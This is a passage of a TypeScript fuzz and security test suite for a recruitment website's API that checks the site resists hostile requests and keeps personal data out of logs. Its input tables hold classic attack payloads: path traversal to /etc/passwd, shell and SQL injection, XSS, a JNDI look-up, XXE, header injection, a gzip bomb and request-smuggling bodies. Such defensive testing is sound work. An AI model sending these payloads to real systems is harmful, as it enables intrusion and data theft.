import { randomUUID } from 'node:crypto'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { type AddressInfo, connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import type { FastifyInstance, InjectOptions } from 'fastify'
import { symbols } from 'pino'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { submissionFields } from '#api/forms'
import { buildApp } from '../../api/app.ts'
import { createForms } from '../../api/submissions/definitions.ts'
import { openLocalStore } from '../../api/submissions/localStore.ts'
import { aJob } from '../builders/jobDocument.ts'
import { fullSize, tries } from '../builders/properties.ts'
import { seedContent, startServers, type TestServers } from '../builders/site.ts'

/** Of all random requests: the same ones each time. */
const seed = 20_261_128
const fuzzed = tries(fullSize ? 1_000 : 100).numRuns
/**
 * In everything that a person would have typed, attached or been sent with: no log line and no name of a file may hold
 * it.
 */
const mark = 'nqzvmark'
const person = {
  name: `Otti ${mark}`,
  email: `${mark}@longlist.example`,
  phone: '+44 20 7946 0999',
  message: `Words that only I know: ${mark}`,
}
const consent = { [submissionFields.consent]: 'on' }
const secretHeaders = { cookie: `session=${mark}`, 'user-agent': `Browser ${mark}` }
const cv = Buffer.from(`Ottilie ${mark}\nPricing Actuary, Leeds\n${mark}@longlist.example\n+44 20 7946 0999\n`)

let servers: TestServers
let app: FastifyInstance
let folder: string
let port = 0
const lines: string[] = []
const job = aJob({
  id: randomUUID(),
  url_slug: 'live-1',
  expires_at: Math.floor(Date.now() / 1_000) + 86_400,
  external_application_url: null,
})

beforeAll(async () => {
  servers = await startServers()
  await servers.write({ jobs: [job] })
  folder = mkdtempSync(join(tmpdir(), 'longlist-hostile-'))
  const capture = ({ event }: object & { event?: string }, message: string) =>
    void lines.push(JSON.stringify({ event, message }))
  const store = await openLocalStore(join(folder, 'submissions'), {
    info: capture,
    warn: capture,
    error: capture,
  } as never)
  app = await buildApp(
    // Everything that can be said is said.
    {
      ...servers.config,
      publicUrl: null,
      maxFileBytes: 200_000,
      formRateLimit: 1_000_000,
      searchRateLimit: 1_000_000,
      logLevel: 'trace',
    },
    { submissions: { forms: createForms(seedContent(new Date()), 'uk'), store } },
  )
  const stream = (app.log as unknown as Record<symbol, { write(line: string): void }>)[symbols.streamSym]!
  stream.write = line => void lines.push(line)
  await app.listen({ port: 0, host: '127.0.0.1' })
  port = (app.server.address() as AddressInfo).port
})
afterAll(async () => {
  await app?.close()
  await servers?.stop()
  rmSync(folder, { recursive: true, force: true })
})

beforeEach(() => {
  lines.length = 0
})

interface Answer {
  statusCode: number
  headers: Record<string, unknown>
  body: string
}

/** What holds of every answer to whatever request. */
function checkAnswer(what: string, { statusCode, headers, body }: Answer): void {
  const said = `${what}: ${statusCode} ${body.slice(0, 300)}`
  expect(statusCode < 500 || statusCode === 503, said).toBe(true)
  expect(headers['x-content-type-options'], said).toBe('nosniff')
  expect(headers, said).not.toHaveProperty('set-cookie')
  expect(body, said).not.toMatch(/node_modules|\bat \S+ \(|\.ts:\d+|node:internal|"stack"/)
  expect(body.includes(folder) || body.includes(process.cwd()), said).toBe(false)
  if (statusCode < 400) return
  expect(body.length, said).toBeGreaterThan(0)
  if (!String(headers['content-type']).includes('application/json')) return
  const answer = JSON.parse(body) as { error?: unknown; fields?: object; status?: string }
  // A job that is not there is told in the form that a job is.
  if (answer.status === undefined) expect(typeof answer.error === 'string' && answer.error.length > 3, said).toBe(true)
  if (statusCode === 422 && answer.fields) expect(Object.keys(answer.fields).length, said).toBeGreaterThan(0)
}

/**
 * What holds after all of them: nothing is left on the way, nothing lies where it should not, nothing was told, and the
 * site works.
 */
async function checkAftermath(): Promise<void> {
  const uuid = '[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}'
  const known = new RegExp(
    `^submissions(?:/incoming|/stored(?:/[0-9a-f]{2}(?:/${uuid}(?:/submission\\.json|/f\\d)?)?)?|/(?:open|held)(?:/${uuid})?)?$`,
  )
  // What has been answered, or cut off, may still be removing what it took.
  await expect
    .poll(() => (readdirSync(folder, { recursive: true }) as string[]).filter(path => !known.test(path)))
    .toEqual([])
  // The line of a request is written once it has been answered.
  await expect.poll(() => lines.length).toBeGreaterThan(0)
  expect(lines.filter(line => /"level":(?:50|60)/.test(line)).map(line => line.slice(0, 500))).toEqual([])
  const told = lines.filter(line => line.toLowerCase().includes(mark))
  expect(told.map(line => line.slice(0, 500))).toEqual([])
  lines.length = 0
  expect((await app.inject('/health')).statusCode).toBe(200)
  const well = await app.inject({
    method: 'POST',
    url: '/_sf/api/v1/forms/contactUs.en',
    payload: wellFilled(),
    headers: { accept: 'application/json' },
  })
  expect(well.statusCode, well.body).toBe(200)
  lines.length = 0
}

const wellFilled = () => ({ ...person, audience: 'candidate', ...consent, [submissionFields.id]: randomUUID() })

interface Part {
  name: string
  value: string | Buffer
  /** Makes it a file. */
  filename?: string
  headers?: string
}

function multipart(
  parts: readonly Part[],
  boundary = 'a-boundary-of-our-own',
  end = `--${boundary}--\r\n`,
): { headers: Record<string, string>; payload: Buffer } {
  const quoted = (text: string) => text.replace(/"/g, '%22')
  const chunks = parts.flatMap(({ name, value, filename, headers = '' }) => [
    Buffer.from(
      `--${boundary}\r\ncontent-disposition: form-data; name="${quoted(name)}"${filename === undefined ? '' : `; filename="${quoted(filename)}"`}\r\n${headers}\r\n`,
    ),
    Buffer.from(value),
    Buffer.from('\r\n'),
  ])
  return {
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([...chunks, Buffer.from(end)]),
  }
}
const fields = (values: Record<string, string>): Part[] =>
  Object.entries(values).map(([name, value]) => ({ name, value }))
const file = (name = 'cv', filename = `${mark}.txt`, value: string | Buffer = cv): Part => ({
  name,
  value,
  filename,
  headers: 'content-type: text/plain\r\n',
})

interface Endpoint {
  method: 'GET' | 'POST'
  url: string
  /** A request that is as it should be but for one hostile value. */
  put(value: string): InjectOptions
  /** Goes with every request, as somebody would who may. */
  headers?: Record<string, string>
}

const login = { authorization: `Basic ${Buffer.from('admin:correct horse').toString('base64')}` }
const urlencoded = (values: Record<string, string>): InjectOptions => ({
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  payload: new URLSearchParams(values).toString(),
})
const json = (value: unknown): InjectOptions => ({
  headers: { 'content-type': 'application/json' },
  payload: JSON.stringify(value),
})

/** In one encoding after the other. */
let turn = 0
function form(values: Record<string, string>, files: (value: string) => Part[] = () => []) {
  return (value: string): InjectOptions => {
    const names = Object.keys(values)
    const filled = {
      ...values,
      [submissionFields.id]: randomUUID(),
      [names[turn++ % names.length]!]: `${value}${mark}`,
    }
    if (files('').length > 0 || turn % 3 === 0) return multipart([...fields(filled), ...files(value)])
    return turn % 3 === 1 ? json(filled) : urlencoded(filled)
  }
}
const page = {
  [submissionFields.page]: '/contact-us',
  [submissionFields.shownAt]: '1',
  [submissionFields.trap]: '',
  [submissionFields.id]: '',
}
const endpoints: Endpoint[] = [
  {
    method: 'POST',
    url: '/_sf/api/v1/forms/contactUs.en',
    put: form({ ...person, audience: 'candidate', company: '', ...consent, ...page }),
  },
  {
    method: 'POST',
    url: '/_sf/api/v1/forms/register',
    put: form({ ...person, location: 'Leeds', specialism: 'actuarial', linkedin: '', ...consent, ...page }, value => [
      file('cv', `${value}${mark}.txt`),
    ]),
  },
  {
    method: 'POST',
    url: `/_sf/api/v1/jobs/${job.id}/apply`,
    put: form({ ...person, linkedin: '', ...consent, ...page }, value => [file('cv', `${value}.txt`)]),
  },
  {
    method: 'POST',
    url: '/_sf/api/v1/cv', // One in four is read; the others are no text, for reading takes a thread each.
    put: value =>
      multipart([
        file('cv', `${value}${mark}.txt`, Buffer.concat([cv, Buffer.from(turn++ % 4 ? `\0${value}` : value)])),
      ]),
  },
  {
    method: 'GET',
    url: '/_sf/api/v1/forms/',
    put: value => ({ url: `/_sf/api/v1/forms/${encodeURIComponent(value.toWellFormed())}` }),
  },
  {
    method: 'GET',
    url: '/_sf/api/v1/jobs/x/apply',
    put: value => ({ url: `/_sf/api/v1/jobs/${encodeURIComponent(value.toWellFormed())}/apply` }),
  },
  {
    method: 'POST',
    url: '/webhooks/contentful',
    put: value => ({
      ...json({ sys: { id: value, mark } }),
      headers: { 'content-type': 'application/json', 'x-contentful-signature': headerText(value) },
    }),
  },
  {
    method: 'POST',
    url: '/webhooks/jobs',
    put: value => ({
      ...json({ source: value, mark }),
      headers: {
        'content-type': 'application/json',
        'webhook-id': headerText(value),
        'webhook-signature': headerText(value),
        'webhook-timestamp': '1',
      },
    }),
  },
  {
    method: 'POST',
    url: '/search/multi-search',
    put: value =>
      json({
        queries: [
          {
            indexUid: 'jobs',
            q: `${value}${mark}`,
            facets: ['specialisms', value],
            filter: turn++ % 2 ? value : [[value]],
            hitsPerPage: 1,
          },
        ],
      }),
  },
  {
    method: 'POST',
    url: '/search/multi-search?',
    put: value => json({ queries: [{ indexUid: 'jobs', q: `${value}${mark}` }] }),
  },
  {
    method: 'GET',
    url: '/places',
    put: value => ({ url: `/places?q=${encodeURIComponent(value.toWellFormed())}${mark}` }),
  },
  {
    method: 'GET',
    url: '/places/resolve',
    put: value => ({
      url: `/places/resolve?location=${encodeURIComponent(value.toWellFormed())}${mark}&place=${encodeURIComponent(value.toWellFormed())}`,
    }),
  },
  {
    method: 'GET',
    url: '/jobs/x.json',
    put: value => ({ url: `/jobs/${encodeURIComponent(value.toWellFormed())}.json` }),
  },
  { method: 'POST', url: '/admin/pipeline/sync', put: value => urlencoded({ source: value, mark }), headers: login },
  { method: 'POST', url: '/admin/pipeline/content', put: value => urlencoded({ any: value, mark }), headers: login },
  { method: 'POST', url: '/admin/submissions/retry', put: value => urlencoded({ id: value, mark }), headers: login },
  {
    method: 'POST',
    url: `/admin/submissions/${randomUUID()}/release`,
    put: value => ({
      ...urlencoded({ id: value, sure: value, mark }),
      url: `/admin/submissions/${encodeURIComponent(value.toWellFormed())}/release`,
    }),
    headers: login,
  },
  {
    method: 'POST',
    url: '/admin/pipeline/sync?as=a-stranger',
    put: value => ({
      ...urlencoded({ source: value, mark }),
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: headerText(`Basic ${value}`) },
    }),
  },
]

/** What may stand in a header at all; Node sends nothing else. */
function headerText(value: string): string {
  return `${value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?').trim()}${mark}`
}

/** By hand: what has gone wrong elsewhere. */
const values: Record<string, string> = {
  'a path': '../../../../etc/passwd',
  'a path of another system': '..\\..\\windows\\win.ini',
  'a path with a NUL': '../../x\0.txt',
  'a path, encoded': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'an absolute path': '/tmp/x',
  NUL: 'a\0b',
  'every control character': Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join(''),
  'marks of direction': '\u202e\u2066fdp.exe\u2069',
  'a name without width': '\u200b\u200c\u200d\ufeff',
  'half a pair': 'a\ud800b',
  'the other half': '\udc00',
  'letters that change their length': '\u0130\ufb03\u1e9e',
  'many marks on one letter': `a${'\u0301'.repeat(2_000)}`,
  'one emoji of many': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'digits of other scripts': '\u0661\u0662\u0663\u0664\u0665\u0666\u0667',
  'a line end and a header': 'x\r\nBcc: victim@longlist.example\r\n\r\nbody',
  'a line feed alone': 'x\nSet-Cookie: a=b',
  'line ends that are none': 'x\u2028\u2029\u0085y',
  'an end of a multipart': '\r\n--a-boundary-of-our-own--\r\n',
  'a script': '<script>alert(1)</script>',
  'a script in an attribute': '"><img src=x onerror=alert(1)>',
  'a template': '{{7*7}}<%= 7*7 %>#{7*7}$\u007b7*7}',
  'a look-up': '$\u007bjndi:ldap://x.example/a}',
  'a shell': '$(touch /tmp/x);`id`|cat',
  'a query': "' OR 1=1; DROP TABLE jobs; --",
  'a filter': 'expires_at > 0 OR id EXISTS',
  'a formula': '=HYPERLINK("http://x.example","y")',
  __proto__: '__proto__',
  constructor: 'constructor',
  'an own property of all': 'toString',
  'a long word': 'a'.repeat(30_000),
  'many words': 'a '.repeat(15_000),
  'many of what patterns like': '@'.repeat(5_000),
  'many dots': `a@${'a.'.repeat(5_000)}`,
  'many digits': '1'.repeat(5_000),
  'a huge number': '1e400',
  'a number that is none': 'NaN',
  'a negative number': '-1',
  'a number past the safe ones': '9007199254740993',
  'a boolean': 'true',
  'JSON for a text': '{"a":[1,2,{"b":null}]}',
  nothing: '',
  spaces: ' \t ',
  'a stop': '.',
  'two stops': '..',
  'a name that one system keeps': 'CON',
  'an address that leads elsewhere': '//evil.example/x',
  'a scheme': 'javascript:alert(1)',
  'a file': 'file:///etc/passwd',
  'per cent signs': '%%%zz%u0000%c0%ae',
  'a sentence of the locale': 'İstanbul ıI ß ẞ',
}

const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
const asJson = { 'content-type': 'application/json' }
const asForm = { 'content-type': 'application/x-www-form-urlencoded' }
const bodies: Record<string, () => InjectOptions> = {
  'no body': () => ({ headers: asJson }),
  'a body without a type': () => ({ payload: Buffer.from('x=y') }),
  'an empty JSON': () => ({ headers: asJson, payload: '' }),
  'half a JSON': () => ({ headers: asJson, payload: `{"name":"${mark}` }),
  'not a JSON': () => ({ headers: asJson, payload: `${mark} is no JSON` }),
  'JSON null': () => ({ headers: asJson, payload: 'null' }),
  'JSON of a text': () => ({ headers: asJson, payload: `"${mark}"` }),
  'JSON of a number': () => ({ headers: asJson, payload: '1e999' }),
  'JSON of an array': () => ({ headers: asJson, payload: `[{"name":"${mark}"}]` }),
  'JSON with a __proto__': () => ({ headers: asJson, payload: `{"__proto__":{"admin":"${mark}"},"queries":[]}` }),
  'JSON with a constructor': () => ({
    headers: asJson,
    payload: `{"constructor":{"prototype":{"x":"${mark}"}},"queries":[]}`,
  }),
  'JSON as deep as a well': () => ({ headers: asJson, payload: deep(20_000) }),
  'JSON with arrays for texts': () => ({
    headers: asJson,
    payload: JSON.stringify({ name: [mark], email: { a: mark }, queries: {}, [submissionFields.id]: [randomUUID()] }),
  }),
  'JSON with a name twice': () => ({
    headers: asJson,
    payload: `{"name":"a","name":"${mark}","${submissionFields.id}":"${randomUUID()}"}`,
  }),
  'JSON of 10,000 fields': () => ({
    headers: asJson,
    payload: JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`f${i}`, mark]))),
  }),
  'JSON with a field of 1 MB': () => ({ headers: asJson, payload: JSON.stringify({ message: mark.repeat(131_072) }) }),
  'JSON of bytes that are no UTF-8': () => ({
    headers: asJson,
    payload: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  }),
  'JSON in UTF-16': () => ({
    headers: { 'content-type': 'application/json; charset=utf-16' },
    payload: Buffer.from(`{"name":"${mark}"}`, 'utf16le'),
  }),
  'JSON behind a mark of its order': () => ({ headers: asJson, payload: `\ufeff{"name":"${mark}"}` }),
  'JSON of a vendor': () => ({ headers: { 'content-type': 'application/vnd.any+json' }, payload: '{}' }),
  'a type of another charset': () => ({
    headers: { 'content-type': 'application/x-www-form-urlencoded; charset=x-none' },
    payload: `name=${mark}`,
  }),
  'a body in gzip': () => ({
    headers: { ...asJson, 'content-encoding': 'gzip' },
    payload: gzipSync(JSON.stringify({ name: mark })),
  }),
  'a bomb in gzip': () => ({
    headers: { ...asForm, 'content-encoding': 'gzip' },
    payload: gzipSync(Buffer.alloc(20_000_000)),
  }),
  'a form of 10,000 fields': () => ({
    headers: asForm,
    payload: Array.from({ length: 10_000 }, (_, i) => `f${i}=${mark}`).join('&'),
  }),
  'a form with one field twice': () => ({ headers: asForm, payload: `name=a&name=${mark}&name[]=b&name[a]=c` }),
  'a form with names of objects': () => ({
    headers: asForm,
    payload: `__proto__[x]=${mark}&constructor.prototype.x=1&__proto__=1&toString=1`,
  }),
  'a form of signs alone': () => ({ headers: asForm, payload: '&&&===&%&%zz&+' }),
  'a form in multipart of text': () => ({ headers: { 'content-type': 'text/plain' }, payload: `name=${mark}` }),
  XML: () => ({
    headers: { 'content-type': 'application/xml' },
    payload: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;${mark}</a>`,
  }),
  'multipart without a boundary': () => ({ headers: { 'content-type': 'multipart/form-data' }, payload: mark }),
  'multipart with an empty boundary': () => ({
    headers: { 'content-type': 'multipart/form-data; boundary=' },
    payload: `--\r\n\r\n${mark}`,
  }),
  'multipart with another boundary than it says': () => ({
    ...multipart([...fields(person), file()]),
    headers: { 'content-type': 'multipart/form-data; boundary=other' },
  }),
  'multipart with a boundary of 1,000 characters': () => multipart([...fields(person), file()], 'b'.repeat(1_000)),
  'multipart of another kind': () => ({
    ...multipart([...fields(person), file()]),
    headers: { 'content-type': 'multipart/mixed; boundary=a-boundary-of-our-own' },
  }),
  'multipart of nothing': () => ({ headers: { 'content-type': 'multipart/form-data; boundary=b' }, payload: '' }),
  'multipart of its end alone': () => ({
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    payload: '--b--\r\n',
  }),
  'multipart without its end': () => multipart([...fields(person), file()], 'b', ''),
  'multipart that ends within a file': () => {
    const whole = multipart([...fields(person), file()])
    return { ...whole, payload: whole.payload.subarray(0, whole.payload.length - 60) }
  },
  'multipart that ends within a header': () => ({
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    payload: `--b\r\ncontent-disposition: form-data; name="${mark}`,
  }),
  'a part without headers': () => ({
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    payload: `--b\r\n\r\n${mark}\r\n--b--\r\n`,
  }),
  'a part without a name': () => ({
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    payload: `--b\r\ncontent-disposition: form-data\r\n\r\n${mark}\r\n--b--\r\n`,
  }),
  'a part with 1,000 headers': () =>
    multipart([
      { name: 'name', value: mark, headers: Array.from({ length: 1_000 }, (_, i) => `x-${i}: ${mark}\r\n`).join('') },
    ]),
  'a part with a header of 100 KB': () =>
    multipart([{ name: 'name', value: mark, headers: `x: ${mark.repeat(12_500)}\r\n` }]),
  'a part in base64': () => multipart([{ ...file(), headers: 'content-transfer-encoding: base64\r\n' }]),
  'a part of JSON': () =>
    multipart([
      { name: 'name', value: `{"__proto__":{"x":"${mark}"}}`, headers: 'content-type: application/json\r\n' },
    ]),
  'a part of broken JSON': () =>
    multipart([{ name: 'name', value: `{${mark}`, headers: 'content-type: application/json\r\n' }]),
  'parts called like what all objects have': () =>
    multipart([
      ...fields({ __proto__x: '1', constructor: mark, toString: mark }),
      { name: '__proto__', value: mark },
      file('constructor'),
      file('__proto__'),
    ]),
  'nested names': () => multipart(fields({ 'name[first]': mark, 'name[]': mark, 'cv[0][file]': mark })),
  '200 fields': () => multipart(Array.from({ length: 200 }, () => ({ name: 'name', value: mark }))),
  '10,000 fields': () => multipart(Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}`, value: mark }))),
  'a field of 1 MB': () => multipart(fields({ message: mark.repeat(131_072) })),
  'a field with a name of 10 KB': () => multipart(fields({ [mark.repeat(1_250)]: 'x' })),
  '20 files': () =>
    multipart([
      ...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }),
      ...Array.from({ length: 20 }, () => file()),
    ]),
  'an oversize file': () =>
    multipart([
      ...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }),
      file('cv', 'cv.txt', Buffer.alloc(300_000, mark)),
    ]),
  'two oversize files': () =>
    multipart([
      ...fields(person),
      file('cv', 'cv.txt', Buffer.alloc(300_000, mark)),
      file('cv', 'cv.txt', Buffer.alloc(300_000, mark)),
    ]),
  'a file ten times too large': () =>
    multipart([file('cv', 'cv.txt', Buffer.alloc(2_500_000, mark)), ...fields(person)]),
  'a large file that nobody asked for': () =>
    multipart([file('other', 'cv.txt', Buffer.alloc(2_500_000, mark)), ...fields(person)]),
  'an empty file': () =>
    multipart([...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }), file('cv', 'cv.txt', '')]),
  'a file without a name': () => multipart([...fields(person), file('cv', '')]),
  'a file called by a path': () =>
    multipart([
      ...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }),
      file('cv', `../../../../tmp/${mark}.txt`),
    ]),
  'a file called like its own kind alone': () =>
    multipart([...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }), file('cv', '.txt')]),
  'a file in the place of a text': () =>
    multipart([
      { name: 'name', value: mark, filename: 'a.txt' },
      { name: submissionFields.id, value: randomUUID(), filename: 'b' },
    ]),
  'a text in the place of a file': () =>
    multipart(fields({ ...person, ...consent, cv: mark, [submissionFields.id]: randomUUID() })),
}

const headerCases: Record<string, Record<string, string>> = {
  'a method to put in its place': { 'x-http-method-override': 'DELETE', 'x-method-override': 'PUT' },
  'an odd wish': { accept: '*/*;q=0.0000000001, text/html;q=nan, application/json;;;' },
  'a wish of 8 KB': { accept: 'text/html,'.repeat(800) },
  'a wish for a page': { accept: 'text/html' },
  'an empty wish': { accept: '' },
  'encodings that there are none of': { 'accept-encoding': 'br;q=9, bombs, *;q=-1, gzip;q=' },
  'another host': { host: 'evil.example' },
  'a host that is none': { host: '"><script>' },
  'a forwarded host': {
    'x-forwarded-host': 'evil.example',
    'x-forwarded-proto': 'gopher',
    forwarded: 'for=unknown;host=evil.example',
  },
  'a forwarded address that is none': { 'x-forwarded-for': `999.1.1.1, ${mark}, ::::` },
  '300 forwarded addresses': {
    'x-forwarded-for': Array.from({ length: 300 }, (_, i) => `10.0.0.${i % 256}`).join(', '),
  },
  'an origin that is none': { origin: 'null' },
  'an origin without an end': { origin: 'https://' },
  'a referrer that is none': { referer: `::: ${mark}` },
  'a word about the site that is none': { 'sec-fetch-site': 'same-origin, cross-site' },
  'a password that is none': { authorization: `Basic ${mark}` },
  'a password without an end': { authorization: `Basic ${Buffer.from(`admin:${mark}`).toString('base64')}` },
  'a token': { authorization: `Bearer ${mark}` },
  'cookies of 8 KB': { cookie: `a=${mark.repeat(1_000)}` },
  'a range': { range: 'bytes=0-18446744073709551615,5-1,-1' },
  'a condition': { 'if-none-match': `"${mark}"`, 'if-modified-since': 'yesterday' },
  'an expectation': { 'x-expect': '100-continue', te: 'trailers, deflate', trailer: 'x' },
  'a wish to go on otherwise': { connection: 'x-forwarded-for, keep-alive' },
  'an id that we gave nobody': { 'x-request-id': mark, 'request-id': mark },
  'a language': { 'accept-language': `${'x-'.repeat(500)}, *;q=5` },
}

describe.each(endpoints)('$method $url', endpoint => {
  const send = ({ headers = {}, ...options }: InjectOptions): Promise<Answer> =>
    app.inject({
      method: endpoint.method,
      url: endpoint.url,
      ...options,
      headers: { ...secretHeaders, ...endpoint.headers, ...headers },
    }) as Promise<Answer>

  it('stands 100 hostile requests made by hand, and more', async () => {
    const cases: [string, InjectOptions][] = [
      ...Object.entries(values).map(([what, value]): [string, InjectOptions] => [what, endpoint.put(value)]),
      ...Object.entries(bodies).map(([what, make]): [string, InjectOptions] => [what, make()]),
      ...Object.entries(headerCases).map(([what, headers]): [string, InjectOptions] => {
        const options = endpoint.put('x')
        return [what, { ...options, headers: { ...options.headers, ...headers } }]
      }),
    ]
    expect(cases.length).toBeGreaterThanOrEqual(100)
    for (const [what, options] of cases) checkAnswer(what, await send(options))
    await checkAftermath()
  })

  it(`stands ${fuzzed} random requests (seed ${seed})`, async () => {
    for (const batch of batches(fc.sample(request(endpoint), { numRuns: fuzzed, seed })))
      await Promise.all(batch.map(async options => checkAnswer(`seed ${seed}: ${shown(options)}`, await send(options))))
    await checkAftermath()
  })
})

function batches<T>(all: readonly T[], size = 16): T[][] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, i) => all.slice(i * size, (i + 1) * size))
}

function shown({ payload, ...options }: InjectOptions): string {
  return JSON.stringify({ ...options, payload: Buffer.isBuffer(payload) ? payload.toString('latin1') : payload }).slice(
    0,
    1_000,
  )
}

/**
 * Random requests of four kinds: a value in its place, a body of anything, a body that was right and has been damaged,
 * headers of anything.
 */
function request(endpoint: Endpoint): fc.Arbitrary<InjectOptions> {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.string({ maxLength: 300 }),
    fc.constantFrom(...Object.values(values)),
    fc
      .tuple(fc.constantFrom(...Object.values(values)), fc.string({ unit: 'binary', maxLength: 20 }))
      .map(([a, b]) => a.slice(0, 500) + b),
  )
  const type = fc.constantFrom(
    'application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=b',
    'multipart/form-data',
    'text/plain',
    'x/y',
    ';',
  )
  const body = fc.oneof(
    fc.uint8Array({ maxLength: 2_000 }).map(bytes => Buffer.from(bytes)),
    fc.json({ maxDepth: 6 }).map(value => Buffer.from(value)),
    fc
      .array(
        fc.constantFrom(
          '--b',
          '--',
          '\r\n',
          '\r\n\r\n',
          'content-disposition: form-data; ',
          'name="',
          'filename="',
          '"',
          ';',
          'cv',
          'name',
          mark,
          '\0',
          '=',
          '&',
          '%',
          '{',
          '}',
          ':',
        ),
        { maxLength: 80 },
      )
      .map(pieces => Buffer.from(pieces.join(''))),
  )
  const put = text.map(value => endpoint.put(value))
  const damaged = fc
    .tuple(put, fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 12 }), fc.nat(3))
    .map(([options, bytes, cut]): InjectOptions => {
      const payload = Buffer.from((options.payload ?? '') as string | Buffer)
      for (const [at, byte] of bytes) if (payload.length > 0) payload[at % payload.length] = byte
      return {
        ...options,
        payload: cut === 0 ? payload.subarray(0, (bytes[0]![0] % (payload.length + 1)) | 0) : payload,
      }
    })
  const odd = fc
    .tuple(
      put,
      fc.constantFrom(
        'accept',
        'content-type',
        'content-encoding',
        'origin',
        'referer',
        'sec-fetch-site',
        'x-forwarded-for',
        'accept-encoding',
        'if-none-match',
        'cookie',
      ),
      text,
    )
    .map(
      ([options, name, value]): InjectOptions => ({
        ...options,
        headers: { ...options.headers, [name]: headerText(value.slice(0, 2_000)) },
      }),
    )
  return fc.oneof(
    { weight: 4, arbitrary: put },
    {
      weight: 2,
      arbitrary: fc
        .tuple(type, body)
        .map(([contentType, payload]): InjectOptions => ({ headers: { 'content-type': contentType }, payload })),
    },
    { weight: 2, arbitrary: damaged },
    { weight: 2, arbitrary: odd },
  )
}

describe('over a socket', () => {
  /**
   * Writes the pieces one after the other, as fast as they go.
   * @returns all that comes until the other side ends, or until `statuses` answers are there
   */
  function talk(pieces: readonly (string | Buffer)[], { cut = false, statuses = 1 } = {}): Promise<string> {
    return new Promise((resolve, reject) => {
      const socket = connect(port, '127.0.0.1')
      socket.setNoDelay(true)
      let text = ''
      const timer = setTimeout(() => {
        socket.destroy()
        reject(new Error(`no answer to ${pieces.join('').slice(-300)}: ${text.slice(0, 300)}`))
      }, 100_000)
      const done = () => {
        clearTimeout(timer)
        socket.destroy()
        resolve(text)
      }
      socket.on('data', chunk => {
        text += chunk.toString('latin1')
        if (codes(text).length >= statuses && text.split('\r\n\r\n').length > statuses) setTimeout(done, 20)
      })
      socket.on('close', done)
      socket.on('error', done)
      socket.on('connect', async () => {
        for (const piece of pieces) await new Promise(written => socket.write(piece, written))
        if (cut) socket.resetAndDestroy()
      })
    })
  }
  const codes = (text: string) => [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, code]) => Number(code))
  const url = `/_sf/api/v1/jobs/${job.id}/apply`
  const start = (more: string, target = `POST ${url} HTTP/1.1`) =>
    `${target}\r\nHost: 127.0.0.1:${port}\r\nAccept: application/json\r\nCookie: session=${mark}\r\n${more}\r\n`
  const whole = () => multipart([...fields({ ...person, ...consent, [submissionFields.id]: randomUUID() }), file()])
  const upload = (length?: number) => {
    const { headers, payload } = whole()
    return {
      head: start(`Content-Type: ${headers['content-type']}\r\nContent-Length: ${length ?? payload.length}\r\n`),
      payload,
    }
  }
  const checkTalk = (what: string, text: string, allowed: readonly number[]) => {
    expect(codes(text).length, `${what}: ${text.slice(0, 300)}`).toBeGreaterThan(0)
    for (const code of codes(text)) expect(allowed, `${what}: ${text.slice(0, 500)}`).toContain(code)
    expect(text, what).not.toMatch(/node_modules|\bat \S+ \(|\.ts:\d+/)
    expect(text.includes(folder), what).toBe(false)
  }

  it('answers what is sent byte by byte', async () => {
    const { head, payload } = upload()
    checkTalk(
      'byte by byte',
      await talk([...head, ...payload].map(piece => (typeof piece === 'string' ? piece : Buffer.from([piece])))),
      [200],
    )
    await checkAftermath()
  })

  it('answers what comes in chunks, and refuses chunks and lengths that lie', async () => {
    const { headers, payload } = whole()
    const chunked = start(`Content-Type: ${headers['content-type']}\r\nTransfer-Encoding: chunked\r\n`)
    const chunk = (bytes: Buffer, size = bytes.length) =>
      Buffer.concat([Buffer.from(`${size.toString(16)}\r\n`), bytes, Buffer.from('\r\n')])
    const pieces = Array.from({ length: Math.ceil(payload.length / 7) }, (_, i) =>
      chunk(payload.subarray(i * 7, i * 7 + 7)),
    )
    checkTalk('chunks', await talk([chunked, ...pieces, '0\r\n\r\n']), [200])
    checkTalk('a chunk that is longer than it says', await talk([chunked, chunk(payload, 5), '0\r\n\r\n']), [400])
    checkTalk('a chunk of a size that is none', await talk([chunked, 'zz\r\nabc\r\n0\r\n\r\n']), [400])
    checkTalk('a chunk larger than memory', await talk([chunked, 'ffffffffffffffffff\r\nabc\r\n']), [400])
    checkTalk(
      'an extension without end',
      await talk([chunked, `5;${'x'.repeat(100_000)}\r\nabcde\r\n0\r\n\r\n`]),
      [400, 413, 431],
    )
    checkTalk(
      'both a length and chunks',
      await talk([
        start(`Content-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n`),
        '0\r\n\r\n',
      ]),
      [400],
    )
    checkTalk(
      'two lengths',
